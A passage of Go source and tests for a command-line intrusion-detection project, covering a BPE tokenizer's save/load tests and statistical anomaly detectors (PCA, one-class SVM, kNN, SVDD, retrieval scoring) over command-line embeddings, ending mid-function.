	var buf bytes.Buffer
	if err := tok.Save(&buf); err != nil {
		t.Fatalf("Save: %v", err)
	}
	loaded, err := Load(&buf)
	if err != nil {
		t.Fatalf("Load: %v", err)
	}
	if loaded.VocabSize() != tok.VocabSize() || loaded.NumMerges() != tok.NumMerges() {
		t.Fatalf("sizes differ after load: vocab %d/%d merges %d/%d",
			loaded.VocabSize(), tok.VocabSize(), loaded.NumMerges(), tok.NumMerges())
	}
	for _, line := range sampleCorpus {
		a := tok.Encode(line)
		b := loaded.Encode(line)
		if !reflect.DeepEqual(a, b) {
			t.Fatalf("encoding differs after load for %q: %v vs %v", line, a, b)
		}
	}
}

func TestLoadRejectsGarbage(t *testing.T) {
	bad := []string{
		"",
		"not-a-header",
		"clmids-bpe v1\nvocab -5\n",
		"clmids-bpe v1\nvocab 999\n\"a\"\n", // truncated vocab
	}
	for _, in := range bad {
		if _, err := Load(strings.NewReader(in)); err == nil {
			t.Errorf("Load(%q): expected error", in)
		}
	}
}

func TestSaveLoadNonUTF8Token(t *testing.T) {
	// Byte symbols 128..255 are not valid UTF-8 on their own; they must
	// survive the save/load round trip.
	tok := trainSample(t, 300)
	var buf bytes.Buffer
	if err := tok.Save(&buf); err != nil {
		t.Fatalf("Save: %v", err)
	}
	loaded, err := Load(&buf)
	if err != nil {
		t.Fatalf("Load: %v", err)
	}
	raw := string([]byte{0xff})
	if loaded.ID(raw) != tok.ID(raw) {
		t.Fatalf("byte 0xff id differs: %d vs %d", loaded.ID(raw), tok.ID(raw))
	}
}

func TestQuickRoundTrip(t *testing.T) {
	tok := trainSample(t, 500)
	alphabet := "abcdefghijklmnopqrstuvwxyz0123456789-/._ |&;$'\""
	cfg := &quick.Config{
		MaxCount: 500,
		Values: func(values []reflect.Value, r *rand.Rand) {
			n := 1 + r.Intn(60)
			buf := make([]byte, n)
			for i := range buf {
				buf[i] = alphabet[r.Intn(len(alphabet))]
			}
			values[0] = reflect.ValueOf(string(buf))
		},
	}
	prop := func(line string) bool {
		norm := strings.Join(strings.Fields(line), " ")
		return tok.Decode(tok.Encode(line)) == norm
	}
	if err := quick.Check(prop, cfg); err != nil {
		t.Fatal(err)
	}
}

func TestQuickNoUnknownForBytes(t *testing.T) {
	// Property: byte-level seeding means Encode never produces UNK.
	tok := trainSample(t, 400)
	cfg := &quick.Config{MaxCount: 300}
	prop := func(raw []byte) bool {
		for _, id := range tok.Encode(string(raw)) {
			if id == UnkID {
				return false
			}
		}
		return true
	}
	if err := quick.Check(prop, cfg); err != nil {
		t.Fatal(err)
	}
}

func TestTopTokens(t *testing.T) {
	tok := trainSample(t, 600)
	top := tok.TopTokens(5)
	if len(top) == 0 {
		t.Fatal("no learned tokens")
	}
	for i := 1; i < len(top); i++ {
		if len(top[i]) > len(top[i-1]) {
			t.Fatalf("TopTokens not sorted by length: %q before %q", top[i-1], top[i])
		}
	}
}

func BenchmarkEncode(b *testing.B) {
	tok := trainSample(b, 800)
	line := "docker run --rm -it -v /srv/data:/data ubuntu bash -c 'ls -la /data'"
	b.ReportAllocs()
	b.ResetTimer()
	for i := 0; i < b.N; i++ {
		tok.Encode(line)
	}
}

func BenchmarkTrain(b *testing.B) {
	corpus := make([]string, 0, len(sampleCorpus)*50)
	for i := 0; i < 50; i++ {
		corpus = append(corpus, sampleCorpus...)
	}
	b.ReportAllocs()
	b.ResetTimer()
	for i := 0; i < b.N; i++ {
		if _, err := Train(corpus, TrainConfig{VocabSize: 600}); err != nil {
			b.Fatal(err)
		}
	}
}
