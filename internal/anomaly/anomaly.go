// Package anomaly implements the detectors that operate in the command-line
// embedding space (§III): PCA reconstruction error (Eq. 1), isolation
// forest, a linear one-class SVM, and k-nearest-neighbour scoring — plus the
// supervised, noise-robust retrieval method of §IV-D.
//
// All detectors follow the same contract: Fit on a matrix of embeddings
// (one row per command line), then Score rows, with higher scores meaning
// more anomalous / more likely intrusion.
package anomaly

import (
	"fmt"
	"math"
	"sort"

	"clmids/internal/linalg"
	"clmids/internal/tensor"
)

// Detector is the shared scoring contract.
type Detector interface {
	// Fit trains the detector on embeddings (one row per line).
	Fit(x *tensor.Matrix) error
	// Score rates a single embedding; higher is more anomalous.
	Score(row []float64) float64
}

// Scores applies d.Score to every row of x.
func Scores(d Detector, x *tensor.Matrix) []float64 {
	out := make([]float64, x.Rows)
	for i := 0; i < x.Rows; i++ {
		out[i] = d.Score(x.Row(i))
	}
	return out
}

// PCADetector scores by PCA reconstruction error (Eq. 1). Scoring after
// Fit is read-only, so one fitted detector is safely shared across
// concurrent scorer replicas (tuning.PCAScorer.Replicate does).
type PCADetector struct {
	// Opts selects the retained components; the zero value keeps 95%.
	Opts linalg.PCAOptions

	pca *linalg.PCA
}

var _ Detector = (*PCADetector)(nil)

// Fit implements Detector.
func (d *PCADetector) Fit(x *tensor.Matrix) error {
	p, err := linalg.FitPCA(x, d.Opts)
	if err != nil {
		return err
	}
	d.pca = p
	return nil
}

// Score implements Detector.
func (d *PCADetector) Score(row []float64) float64 {
	if d.pca == nil {
		panic("anomaly: PCADetector.Score before Fit")
	}
	return d.pca.ReconstructionError(row)
}

// PCA exposes the fitted model (nil before Fit); reconstruction-based
// tuning reuses it.
func (d *PCADetector) PCA() *linalg.PCA { return d.pca }

// Standardizer z-scores embeddings per dimension; the SVM-style detectors
// are scale-sensitive and fit it internally. Apply allocates its output
// and never mutates the fitted statistics, so one fitted Standardizer is
// safely shared across concurrent scorer replicas.
type Standardizer struct {
	Mean, Std []float64
}

// FitStandardizer estimates per-dimension statistics.
func FitStandardizer(x *tensor.Matrix) *Standardizer {
	d := x.Cols
	s := &Standardizer{Mean: make([]float64, d), Std: make([]float64, d)}
	for i := 0; i < x.Rows; i++ {
		for j, v := range x.Row(i) {
			s.Mean[j] += v
		}
	}
	for j := range s.Mean {
		s.Mean[j] /= float64(x.Rows)
	}
	for i := 0; i < x.Rows; i++ {
		for j, v := range x.Row(i) {
			dlt := v - s.Mean[j]
			s.Std[j] += dlt * dlt
		}
	}
	for j := range s.Std {
		s.Std[j] = math.Sqrt(s.Std[j] / float64(x.Rows))
		if s.Std[j] < 1e-9 {
			s.Std[j] = 1
		}
	}
	return s
}

// Apply standardizes one row into a new slice.
func (s *Standardizer) Apply(row []float64) []float64 {
	out := make([]float64, len(row))
	for j, v := range row {
		out[j] = (v - s.Mean[j]) / s.Std[j]
	}
	return out
}

// OneClassSVM is a linear ν-one-class SVM (Schölkopf et al.) trained by
// full-batch subgradient descent on the primal objective
// ½‖w‖² − ρ + 1/(νn)·Σ max(0, ρ−⟨w,x⟩).
//
// The formulation separates the data from the origin, so inputs are scaled
// per dimension but deliberately NOT mean-centered: centering would place
// the cloud on top of the origin and make it unseparable. Transformer
// mean-pooled embeddings have a strong nonzero mean, which is exactly the
// regime where the linear machine works. For data without that property use
// SVDD, which is translation-invariant.
type OneClassSVM struct {
	// Nu bounds the fraction of training outliers; default 0.1.
	Nu float64
	// Epochs of full-batch descent; default 200.
	Epochs int
	// LR is the descent step; default 0.01.
	LR float64

	w   []float64
	rho float64
	std *Standardizer
}

var _ Detector = (*OneClassSVM)(nil)

// Fit implements Detector.
func (d *OneClassSVM) Fit(x *tensor.Matrix) error {
	if x.Rows < 2 {
		return fmt.Errorf("anomaly: OneClassSVM needs at least 2 rows")
	}
	nu := d.Nu
	if nu <= 0 || nu > 1 {
		nu = 0.1
	}
	epochs := d.Epochs
	if epochs <= 0 {
		epochs = 200
	}
	lr := d.LR
	if lr <= 0 {
		lr = 0.01
	}
	d.std = FitStandardizer(x)
	for j := range d.std.Mean {
		d.std.Mean[j] = 0 // scale-only: keep the cloud away from the origin
	}
	n, dim := x.Rows, x.Cols
	rows := make([][]float64, n)
	for i := 0; i < n; i++ {
		rows[i] = d.std.Apply(x.Row(i))
	}

	w := make([]float64, dim)
	rho := 0.0
	coef := 1 / (nu * float64(n))
	gw := make([]float64, dim)
	for e := 0; e < epochs; e++ {
		copy(gw, w) // ∂(½‖w‖²)
		grho := -1.0
		for i := 0; i < n; i++ {
			if linalg.Dot(w, rows[i]) < rho {
				for j, v := range rows[i] {
					gw[j] -= coef * v
				}
				grho += coef
			}
		}
		for j := range w {
			w[j] -= lr * gw[j]
		}
		rho -= lr * grho
	}
	d.w = w
	d.rho = rho
	return nil
}

// Score implements Detector: margin violation ρ − ⟨w,x⟩.
func (d *OneClassSVM) Score(row []float64) float64 {
	if d.w == nil {
		panic("anomaly: OneClassSVM.Score before Fit")
	}
	return d.rho - linalg.Dot(d.w, d.std.Apply(row))
}

// KNNDetector scores by the mean Euclidean distance to the k nearest
// training embeddings — the plain unsupervised variant.
type KNNDetector struct {
	// K is the neighbourhood size; default 5.
	K int

	train *tensor.Matrix
}

var _ Detector = (*KNNDetector)(nil)

// Fit implements Detector (stores the training matrix).
func (d *KNNDetector) Fit(x *tensor.Matrix) error {
	if x.Rows == 0 {
		return fmt.Errorf("anomaly: KNN needs at least 1 row")
	}
	d.train = x
	return nil
}

// Score implements Detector.
func (d *KNNDetector) Score(row []float64) float64 {
	if d.train == nil {
		panic("anomaly: KNNDetector.Score before Fit")
	}
	k := d.K
	if k <= 0 {
		k = 5
	}
	if k > d.train.Rows {
		k = d.train.Rows
	}
	dists := nearestDistances(d.train, row, k, linalg.Euclidean)
	sum := 0.0
	for _, v := range dists {
		sum += v
	}
	return sum / float64(len(dists))
}

// nearestDistances returns the k smallest metric(row, train-row) values,
// ascending, via a bounded max-heap-free selection (insertion into a small
// sorted slice — k is tiny).
func nearestDistances(train *tensor.Matrix, row []float64, k int, metric func(a, b []float64) float64) []float64 {
	best := make([]float64, 0, k)
	for i := 0; i < train.Rows; i++ {
		dst := metric(train.Row(i), row)
		if len(best) < k {
			best = append(best, dst)
			sort.Float64s(best)
			continue
		}
		if dst < best[k-1] {
			pos := sort.SearchFloat64s(best, dst)
			copy(best[pos+1:], best[pos:k-1])
			best[pos] = dst
		}
	}
	return best
}
