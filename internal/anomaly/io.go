package anomaly

import (
	"encoding/gob"
	"fmt"
	"io"

	"clmids/internal/linalg"
	"clmids/internal/tensor"
)

// Fitted detectors persist through exported state structs so the artifact
// layer (core bundles) can embed them in one serialized value, plus
// Save/Load convenience wrappers for standalone round trips. Everything is
// plain slices and matrices — no maps — so gob encoding of the same fitted
// detector is byte-deterministic, which is what lets bundle checksums and
// content-derived versions work.

const (
	pcaDetFormat    = "clmids-pcadet v1"
	retrievalFormat = "clmids-retrieval v1"
)

// PCADetectorState is the serializable form of a fitted PCADetector.
type PCADetectorState struct {
	Format string
	Opts   linalg.PCAOptions
	PCA    *linalg.PCA
}

// State snapshots a fitted detector for serialization.
func (d *PCADetector) State() (*PCADetectorState, error) {
	if d.pca == nil {
		return nil, fmt.Errorf("anomaly: PCADetector.State before Fit")
	}
	return &PCADetectorState{Format: pcaDetFormat, Opts: d.Opts, PCA: d.pca}, nil
}

// RestorePCADetector rebuilds a fitted detector from its serialized state,
// validating shapes so corrupt input fails with an error instead of a
// panic at first Score.
func RestorePCADetector(st *PCADetectorState) (*PCADetector, error) {
	if st == nil || st.Format != pcaDetFormat {
		return nil, fmt.Errorf("anomaly: bad PCA detector state format %q", stateFormat(st))
	}
	if err := validatePCA(st.PCA); err != nil {
		return nil, fmt.Errorf("anomaly: PCA detector state: %w", err)
	}
	return &PCADetector{Opts: st.Opts, pca: st.PCA}, nil
}

func stateFormat(st *PCADetectorState) string {
	if st == nil {
		return "<nil>"
	}
	return st.Format
}

// Save writes the fitted detector to w (gob, single value).
func (d *PCADetector) Save(w io.Writer) error {
	st, err := d.State()
	if err != nil {
		return err
	}
	if err := gob.NewEncoder(w).Encode(st); err != nil {
		return fmt.Errorf("anomaly: encoding PCA detector: %w", err)
	}
	return nil
}

// LoadPCADetector reads a detector previously written by Save.
func LoadPCADetector(r io.Reader) (*PCADetector, error) {
	var st PCADetectorState
	if err := gob.NewDecoder(r).Decode(&st); err != nil {
		return nil, fmt.Errorf("anomaly: decoding PCA detector: %w", err)
	}
	return RestorePCADetector(&st)
}

// validatePCA checks a deserialized PCA for internal consistency.
func validatePCA(p *linalg.PCA) error {
	if p == nil {
		return fmt.Errorf("missing PCA")
	}
	if err := validMatrix(p.W); err != nil {
		return fmt.Errorf("projection: %w", err)
	}
	if p.W.Rows < 1 || p.W.Rows > p.W.Cols {
		return fmt.Errorf("projection keeps %d of %d components", p.W.Rows, p.W.Cols)
	}
	if len(p.Mean) != p.W.Cols {
		return fmt.Errorf("mean has %d dims, projection %d", len(p.Mean), p.W.Cols)
	}
	return nil
}

// RetrievalState is the serializable form of a fitted Retrieval index: the
// full labeled training matrix, from which FitLabeled deterministically
// rebuilds the malicious sub-index on restore.
type RetrievalState struct {
	Format string
	K      int
	All    *tensor.Matrix
	Labels []bool
}

// State snapshots a fitted index for serialization.
func (r *Retrieval) State() (*RetrievalState, error) {
	if r.all == nil {
		return nil, fmt.Errorf("anomaly: Retrieval.State before FitLabeled")
	}
	return &RetrievalState{Format: retrievalFormat, K: r.K, All: r.all, Labels: r.labels}, nil
}

// RestoreRetrieval rebuilds a fitted index from its serialized state.
func RestoreRetrieval(st *RetrievalState) (*Retrieval, error) {
	if st == nil || st.Format != retrievalFormat {
		format := "<nil>"
		if st != nil {
			format = st.Format
		}
		return nil, fmt.Errorf("anomaly: bad retrieval state format %q", format)
	}
	if err := validMatrix(st.All); err != nil {
		return nil, fmt.Errorf("anomaly: retrieval state index: %w", err)
	}
	ret := NewRetrieval(st.K)
	if err := ret.FitLabeled(st.All, st.Labels); err != nil {
		return nil, fmt.Errorf("anomaly: retrieval state: %w", err)
	}
	return ret, nil
}

// Save writes the fitted index to w (gob, single value).
func (r *Retrieval) Save(w io.Writer) error {
	st, err := r.State()
	if err != nil {
		return err
	}
	if err := gob.NewEncoder(w).Encode(st); err != nil {
		return fmt.Errorf("anomaly: encoding retrieval index: %w", err)
	}
	return nil
}

// LoadRetrieval reads an index previously written by Save.
func LoadRetrieval(r io.Reader) (*Retrieval, error) {
	var st RetrievalState
	if err := gob.NewDecoder(r).Decode(&st); err != nil {
		return nil, fmt.Errorf("anomaly: decoding retrieval index: %w", err)
	}
	return RestoreRetrieval(&st)
}

// validMatrix rejects matrices whose header and data disagree — the shape
// a truncated or bit-flipped gob stream produces — before any Row call can
// panic on them.
func validMatrix(m *tensor.Matrix) error {
	switch {
	case m == nil:
		return fmt.Errorf("missing matrix")
	case m.Rows < 1 || m.Cols < 1:
		return fmt.Errorf("empty %dx%d matrix", m.Rows, m.Cols)
	case len(m.Data) != m.Rows*m.Cols:
		return fmt.Errorf("%dx%d matrix backed by %d values", m.Rows, m.Cols, len(m.Data))
	}
	return nil
}
