package anomaly

import (
	"math"
	"math/rand"
	"testing"

	"clmids/internal/tensor"
)

// clusterData builds nInliers points near two tight clusters and nOutliers
// far-away points; returns the matrix (inliers first) for detector tests.
func clusterData(r *rand.Rand, nInliers, nOutliers, dim int) *tensor.Matrix {
	x := tensor.NewMatrix(nInliers+nOutliers, dim)
	for i := 0; i < nInliers; i++ {
		center := 1.0
		if i%2 == 1 {
			center = -1.0
		}
		row := x.Row(i)
		for j := range row {
			row[j] = center + r.NormFloat64()*0.05
		}
	}
	for i := nInliers; i < nInliers+nOutliers; i++ {
		row := x.Row(i)
		for j := range row {
			row[j] = r.NormFloat64() * 8
		}
	}
	return x
}

// separation asserts that outlier scores dominate inlier scores: the
// fraction of (outlier, inlier) pairs where the outlier scores strictly
// higher must exceed minAUC.
func separation(t *testing.T, name string, scores []float64, nInliers int, minAUC float64) {
	t.Helper()
	wins, total := 0, 0
	for i := nInliers; i < len(scores); i++ {
		for j := 0; j < nInliers; j++ {
			total++
			if scores[i] > scores[j] {
				wins++
			}
		}
	}
	auc := float64(wins) / float64(total)
	if auc < minAUC {
		t.Errorf("%s: AUC %.3f below %.3f", name, auc, minAUC)
	}
}

func TestPCADetector(t *testing.T) {
	r := rand.New(rand.NewSource(1))
	x := clusterData(r, 200, 10, 8)
	train := tensor.FromSlice(200, 8, x.Data[:200*8])
	d := &PCADetector{}
	if err := d.Fit(train); err != nil {
		t.Fatal(err)
	}
	separation(t, "pca", Scores(d, x), 200, 0.95)
	if d.PCA() == nil {
		t.Error("PCA() nil after fit")
	}
}

func TestIsolationForest(t *testing.T) {
	r := rand.New(rand.NewSource(2))
	x := clusterData(r, 200, 10, 8)
	train := tensor.FromSlice(200, 8, x.Data[:200*8])
	d := &IsolationForest{Trees: 50, Seed: 3}
	if err := d.Fit(train); err != nil {
		t.Fatal(err)
	}
	scores := Scores(d, x)
	separation(t, "iforest", scores, 200, 0.95)
	for _, s := range scores {
		if s < 0 || s > 1 {
			t.Fatalf("iforest score %v outside [0,1]", s)
		}
	}
}

func TestIsolationForestDeterministic(t *testing.T) {
	r := rand.New(rand.NewSource(4))
	x := clusterData(r, 100, 5, 6)
	d1 := &IsolationForest{Trees: 20, Seed: 9}
	d2 := &IsolationForest{Trees: 20, Seed: 9}
	if err := d1.Fit(x); err != nil {
		t.Fatal(err)
	}
	if err := d2.Fit(x); err != nil {
		t.Fatal(err)
	}
	for i := 0; i < x.Rows; i++ {
		if d1.Score(x.Row(i)) != d2.Score(x.Row(i)) {
			t.Fatal("same seed produced different forests")
		}
	}
}

func TestOneClassSVM(t *testing.T) {
	r := rand.New(rand.NewSource(5))
	// OC-SVM separates the origin from the data, so a single cluster is the
	// appropriate setting.
	n, dim := 300, 8
	x := tensor.NewMatrix(n+10, dim)
	for i := 0; i < n; i++ {
		row := x.Row(i)
		for j := range row {
			row[j] = 2 + r.NormFloat64()*0.2
		}
	}
	for i := n; i < n+10; i++ {
		row := x.Row(i)
		for j := range row {
			row[j] = -4 + r.NormFloat64()*0.2
		}
	}
	train := tensor.FromSlice(n, dim, x.Data[:n*dim])
	d := &OneClassSVM{Nu: 0.05, Epochs: 300, LR: 0.02}
	if err := d.Fit(train); err != nil {
		t.Fatal(err)
	}
	separation(t, "ocsvm", Scores(d, x), n, 0.95)
}

func TestKNNDetector(t *testing.T) {
	r := rand.New(rand.NewSource(6))
	x := clusterData(r, 200, 10, 8)
	train := tensor.FromSlice(200, 8, x.Data[:200*8])
	d := &KNNDetector{K: 5}
	if err := d.Fit(train); err != nil {
		t.Fatal(err)
	}
	separation(t, "knn", Scores(d, x), 200, 0.98)
}

func TestSVDD(t *testing.T) {
	r := rand.New(rand.NewSource(11))
	// SVDD is translation-invariant, so the two-cluster data with
	// all-direction outliers is fine.
	x := clusterData(r, 200, 10, 8)
	train := tensor.FromSlice(200, 8, x.Data[:200*8])
	d := &SVDD{Nu: 0.05, Epochs: 300}
	if err := d.Fit(train); err != nil {
		t.Fatal(err)
	}
	separation(t, "svdd", Scores(d, x), 200, 0.9)
}

func TestDetectorFitErrors(t *testing.T) {
	empty := tensor.NewMatrix(0, 4)
	one := tensor.NewMatrix(1, 4)
	if err := (&PCADetector{}).Fit(one); err == nil {
		t.Error("PCA accepted 1 row")
	}
	if err := (&IsolationForest{}).Fit(one); err == nil {
		t.Error("iforest accepted 1 row")
	}
	if err := (&OneClassSVM{}).Fit(one); err == nil {
		t.Error("ocsvm accepted 1 row")
	}
	if err := (&SVDD{}).Fit(one); err == nil {
		t.Error("svdd accepted 1 row")
	}
	if err := (&KNNDetector{}).Fit(empty); err == nil {
		t.Error("knn accepted 0 rows")
	}
}

func TestScoreBeforeFitPanics(t *testing.T) {
	for name, d := range map[string]Detector{
		"pca":     &PCADetector{},
		"iforest": &IsolationForest{},
		"ocsvm":   &OneClassSVM{},
		"svdd":    &SVDD{},
		"knn":     &KNNDetector{},
	} {
		func() {
			defer func() {
				if recover() == nil {
					t.Errorf("%s: Score before Fit did not panic", name)
				}
			}()
			d.Score([]float64{1, 2, 3})
		}()
	}
}

func TestStandardizer(t *testing.T) {
	x := tensor.FromSlice(4, 2, []float64{
		0, 100,
		2, 100,
		4, 100,
		6, 100,
	})
	s := FitStandardizer(x)
	if math.Abs(s.Mean[0]-3) > 1e-12 {
		t.Errorf("mean = %v", s.Mean)
	}
	// Constant column must not divide by zero.
	out := s.Apply([]float64{3, 100})
	if out[0] != 0 || out[1] != 0 {
		t.Errorf("standardized = %v, want zeros", out)
	}
}

func TestRetrievalScoresMaliciousNeighbors(t *testing.T) {
	r := rand.New(rand.NewSource(7))
	// Embedding space: benign cluster around +e1, malicious around +e2.
	dim := 6
	n := 100
	x := tensor.NewMatrix(n, dim)
	labels := make([]bool, n)
	for i := 0; i < n; i++ {
		row := x.Row(i)
		if i%10 == 0 { // 10% malicious
			labels[i] = true
			row[1] = 1
		} else {
			row[0] = 1
		}
		for j := range row {
			row[j] += r.NormFloat64() * 0.05
		}
	}
	ret := NewRetrieval(1)
	if err := ret.FitLabeled(x, labels); err != nil {
		t.Fatal(err)
	}
	malTest := make([]float64, dim)
	malTest[1] = 1
	benTest := make([]float64, dim)
	benTest[0] = 1
	if ret.Score(malTest) <= ret.Score(benTest) {
		t.Fatalf("malicious-like score %.3f not above benign-like %.3f",
			ret.Score(malTest), ret.Score(benTest))
	}
}

func TestRetrievalRobustToLabelNoise(t *testing.T) {
	// The scenario from §IV-D: a malicious test line whose nearest
	// neighbours are mislabeled benign. Majority vote fails; the modified
	// average-similarity-to-malicious score still ranks it above benign.
	dim := 4
	x := tensor.NewMatrix(6, dim)
	labels := make([]bool, 6)
	// Three benign-labeled but actually malicious lines near e2 (label
	// noise), one correctly labeled malicious line also near e2, two benign
	// near e1.
	for i := 0; i < 3; i++ {
		x.Row(i)[1] = 1
		x.Row(i)[2] = float64(i) * 0.01
	}
	x.Row(3)[1] = 1
	labels[3] = true
	x.Row(4)[0] = 1
	x.Row(5)[0] = 1

	ret := NewRetrieval(1)
	if err := ret.FitLabeled(x, labels); err != nil {
		t.Fatal(err)
	}
	test := []float64{0, 1, 0.005, 0}
	// Majority vote among 3 nearest (all the mislabeled ones) says benign.
	if ret.MajorityVote(test, 3) {
		t.Fatal("majority vote unexpectedly flagged the sample (test setup broken)")
	}
	// The modified score is high because the nearest malicious is close.
	benign := []float64{1, 0, 0, 0}
	if ret.Score(test) <= ret.Score(benign) {
		t.Fatalf("modified retrieval did not recover from label noise: %.3f vs %.3f",
			ret.Score(test), ret.Score(benign))
	}
}

func TestRetrievalErrors(t *testing.T) {
	x := tensor.NewMatrix(3, 2)
	if err := NewRetrieval(1).FitLabeled(x, []bool{false, false}); err == nil {
		t.Error("label length mismatch accepted")
	}
	if err := NewRetrieval(1).FitLabeled(x, []bool{false, false, false}); err == nil {
		t.Error("all-benign labels accepted")
	}
}

func TestRetrievalKLargerThanMalicious(t *testing.T) {
	x := tensor.FromSlice(3, 2, []float64{1, 0, 0, 1, 1, 1})
	ret := NewRetrieval(10)
	if err := ret.FitLabeled(x, []bool{true, false, false}); err != nil {
		t.Fatal(err)
	}
	// Must not panic; k clamps to 1 malicious row.
	_ = ret.Score([]float64{1, 0})
}

func BenchmarkPCADetectorScore(b *testing.B) {
	r := rand.New(rand.NewSource(8))
	x := clusterData(r, 500, 0, 64)
	d := &PCADetector{}
	if err := d.Fit(x); err != nil {
		b.Fatal(err)
	}
	row := x.Row(0)
	b.ReportAllocs()
	b.ResetTimer()
	for i := 0; i < b.N; i++ {
		d.Score(row)
	}
}

func BenchmarkRetrievalScore(b *testing.B) {
	r := rand.New(rand.NewSource(9))
	x := clusterData(r, 1000, 0, 64)
	labels := make([]bool, 1000)
	for i := 0; i < 50; i++ {
		labels[r.Intn(1000)] = true
	}
	labels[0] = true
	ret := NewRetrieval(1)
	if err := ret.FitLabeled(x, labels); err != nil {
		b.Fatal(err)
	}
	row := x.Row(3)
	b.ReportAllocs()
	b.ResetTimer()
	for i := 0; i < b.N; i++ {
		ret.Score(row)
	}
}

func TestRetrievalScoreBatchMatchesScore(t *testing.T) {
	r := rand.New(rand.NewSource(13))
	dim, n := 6, 80
	x := tensor.NewMatrix(n, dim)
	labels := make([]bool, n)
	for i := 0; i < n; i++ {
		row := x.Row(i)
		labels[i] = i%7 == 0
		for j := range row {
			row[j] = r.NormFloat64()
		}
	}
	ret := NewRetrieval(3)
	if err := ret.FitLabeled(x, labels); err != nil {
		t.Fatal(err)
	}
	test := tensor.NewMatrix(33, dim)
	for i := range test.Data {
		test.Data[i] = r.NormFloat64()
	}
	got := ret.ScoreBatch(test)
	if len(got) != test.Rows {
		t.Fatalf("ScoreBatch returned %d scores for %d rows", len(got), test.Rows)
	}
	for i := 0; i < test.Rows; i++ {
		if want := ret.Score(test.Row(i)); got[i] != want {
			t.Fatalf("row %d: ScoreBatch %g != Score %g", i, got[i], want)
		}
	}
}
