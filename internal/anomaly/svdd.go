package anomaly

import (
	"fmt"

	"clmids/internal/linalg"
	"clmids/internal/tensor"
)

// SVDD is support vector data description (Tax & Duin): the minimal soft
// hypersphere enclosing the training embeddings, fitted by full-batch
// subgradient descent on R² + 1/(νn)·Σ max(0, ‖x−c‖²−R²). Unlike the linear
// one-class SVM it is translation-invariant, so it also works on centered
// data. Score is the signed squared distance outside the sphere.
type SVDD struct {
	// Nu bounds the fraction of training points left outside; default 0.1.
	Nu float64
	// Epochs of descent; default 200.
	Epochs int
	// LR is the descent step; default 0.05.
	LR float64

	center []float64
	r2     float64
	std    *Standardizer
}

var _ Detector = (*SVDD)(nil)

// Fit implements Detector.
func (d *SVDD) Fit(x *tensor.Matrix) error {
	if x.Rows < 2 {
		return fmt.Errorf("anomaly: SVDD needs at least 2 rows")
	}
	nu := d.Nu
	if nu <= 0 || nu > 1 {
		nu = 0.1
	}
	epochs := d.Epochs
	if epochs <= 0 {
		epochs = 200
	}
	lr := d.LR
	if lr <= 0 {
		lr = 0.05
	}
	d.std = FitStandardizer(x)
	n, dim := x.Rows, x.Cols
	rows := make([][]float64, n)
	for i := 0; i < n; i++ {
		rows[i] = d.std.Apply(x.Row(i))
	}

	// Initialize at the standardized mean (origin) with the mean squared
	// radius; descent then tightens the sphere.
	c := make([]float64, dim)
	r2 := 0.0
	for _, row := range rows {
		r2 += linalg.Dot(row, row)
	}
	r2 /= float64(n)

	coef := 1 / (nu * float64(n))
	gc := make([]float64, dim)
	for e := 0; e < epochs; e++ {
		for j := range gc {
			gc[j] = 0
		}
		gr2 := 1.0
		for _, row := range rows {
			dist := 0.0
			for j, v := range row {
				dlt := v - c[j]
				dist += dlt * dlt
			}
			if dist > r2 {
				gr2 -= coef
				for j, v := range row {
					gc[j] -= coef * 2 * (v - c[j])
				}
			}
		}
		for j := range c {
			c[j] -= lr * gc[j]
		}
		r2 -= lr * gr2
		if r2 < 0 {
			r2 = 0
		}
	}
	d.center = c
	d.r2 = r2
	return nil
}

// Score implements Detector: ‖x−c‖² − R² in standardized space.
func (d *SVDD) Score(row []float64) float64 {
	if d.center == nil {
		panic("anomaly: SVDD.Score before Fit")
	}
	z := d.std.Apply(row)
	dist := 0.0
	for j, v := range z {
		dlt := v - d.center[j]
		dist += dlt * dlt
	}
	return dist - d.r2
}
