package anomaly

import (
	"fmt"
	"sort"

	"clmids/internal/linalg"
	"clmids/internal/tensor"
)

// Retrieval is the paper's retrieval-based detection (§IV-D). The naive kNN
// majority vote fails under label noise (a malicious line whose neighbours
// were all mislabeled benign scores 0), so the modified method scores each
// test line by its average cosine similarity to its k nearest *malicious*
// training neighbours only. The paper uses k = 1 (1NN).
//
// After FitLabeled the index is read-only: Score and ScoreBatch never
// mutate it, so one fitted Retrieval is safely shared by every scorer
// replica of a sharded streaming detector (tuning.Replicable).
type Retrieval struct {
	// K is the number of malicious neighbours averaged; default 1 (paper).
	K int

	malicious *tensor.Matrix
	all       *tensor.Matrix
	labels    []bool
}

// NewRetrieval creates a retrieval scorer.
func NewRetrieval(k int) *Retrieval {
	if k <= 0 {
		k = 1
	}
	return &Retrieval{K: k}
}

// Dim returns the embedding dimensionality of the fitted index.
func (r *Retrieval) Dim() int { return r.all.Cols }

// FitLabeled indexes the training embeddings with their (noisy) supervision
// labels; true marks lines the commercial IDS flagged.
func (r *Retrieval) FitLabeled(x *tensor.Matrix, labels []bool) error {
	if x.Rows != len(labels) {
		return fmt.Errorf("anomaly: %d rows but %d labels", x.Rows, len(labels))
	}
	nMal := 0
	for _, l := range labels {
		if l {
			nMal++
		}
	}
	if nMal == 0 {
		return fmt.Errorf("anomaly: retrieval needs at least one malicious-labeled line")
	}
	mal := tensor.NewMatrix(nMal, x.Cols)
	at := 0
	for i, l := range labels {
		if l {
			copy(mal.Row(at), x.Row(i))
			at++
		}
	}
	r.malicious = mal
	r.all = x
	r.labels = labels
	return nil
}

// Score implements the modified method: average cosine similarity between
// the test embedding and its K nearest malicious training embeddings.
// Higher means more intrusion-like.
func (r *Retrieval) Score(row []float64) float64 {
	if r.malicious == nil {
		panic("anomaly: Retrieval.Score before FitLabeled")
	}
	k := r.K
	if k > r.malicious.Rows {
		k = r.malicious.Rows
	}
	// Track the k LARGEST similarities.
	best := make([]float64, 0, k)
	for i := 0; i < r.malicious.Rows; i++ {
		sim := linalg.Cosine(r.malicious.Row(i), row)
		if len(best) < k {
			best = append(best, sim)
			sort.Float64s(best)
			continue
		}
		if sim > best[0] {
			pos := sort.SearchFloat64s(best, sim)
			copy(best[:pos-1], best[1:pos])
			best[pos-1] = sim
		}
	}
	sum := 0.0
	for _, v := range best {
		sum += v
	}
	return sum / float64(len(best))
}

// ScoreBatch scores every row of x, splitting the rows across GOMAXPROCS
// workers. Each row's kNN scan is independent, so batch scoring
// parallelizes embarrassingly; results are identical to calling Score row
// by row.
func (r *Retrieval) ScoreBatch(x *tensor.Matrix) []float64 {
	if r.malicious == nil {
		panic("anomaly: Retrieval.ScoreBatch before FitLabeled")
	}
	out := make([]float64, x.Rows)
	tensor.ParallelRows(x.Rows, func(lo, hi int) {
		for i := lo; i < hi; i++ {
